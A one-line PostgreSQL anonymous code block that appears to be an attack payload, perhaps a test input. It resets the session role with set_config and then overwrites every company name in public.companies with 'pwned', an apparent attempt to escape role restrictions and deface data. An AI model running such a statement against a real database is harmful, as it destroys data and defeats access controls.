DO $x$ BEGIN PERFORM set_config('role', 'none', false); UPDATE public.companies SET name = 'pwned'; END $x$;
